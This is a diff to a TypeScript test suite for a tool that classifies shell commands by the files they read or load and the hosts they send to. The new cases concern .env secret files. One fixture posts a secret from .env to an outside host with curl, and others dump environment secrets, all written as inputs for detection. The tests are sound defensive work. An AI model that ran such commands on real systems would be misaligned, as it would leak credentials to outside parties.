@@ -22,6 +22,7 @@ function show(fact: CommandFact): string {
     ...(privileged ? ["privileged"] : []),
     ...(dir.path === "/p" ? [] : [`dir=${pathOf(dir)}`]),
     ...list("reads", fact.reads.map(pathOf)),
+    ...list("loads", fact.loads.map(pathOf)),
     ...list("writes", fact.writes.map(pathOf)),
     ...list("deletes", fact.deletes.map(pathOf)),
     ...(recursive ? ["recursive"] : []),
@@ -319,6 +320,22 @@ describe("an output that is not known leaves open what the program can do, and n
     );
   });
 });
+
+check("variables of a file are used and not read", [
+  ["node --env-file=.env a.js", "node reads=/p/a.js loads=/p/.env runs=file"],
+  ["set -a; source .env; npm start", "source loads=/p/.env runs=file", "npm"],
+  ["docker run --env-file .env img env", "env via=docker reads=/p/.env"],
+  ["source .env; env", "env reads=/p/.env"],
+  ["source .env; set", "set reads=/p/.env"],
+  ["source .env; export -p", "export reads=/p/.env"],
+  ['. ./.env; echo "$KEY"', "echo reads=/p/.env"],
+  ["source .env; A=1; echo $A $HOME", "echo"],
+  ['source .env; curl -d "$KEY" h.example', "curl hosts=h.example sends=file receives"],
+  ["source .env; python3 -c 'import os; print(os.environ)'", "python3 reads=/p/.env runs=literal"],
+  ["dotenv -e .env -- printenv KEY", "printenv via=dotenv reads=/p/.env"],
+]);
+
+check("git compares files that are not in a repository", [["git diff --no-index /dev/null .env", "git reads=/p/.env"]]);
 
 describe("without a folder", () => {
   it("paths are relative to the folder of the call", () => {
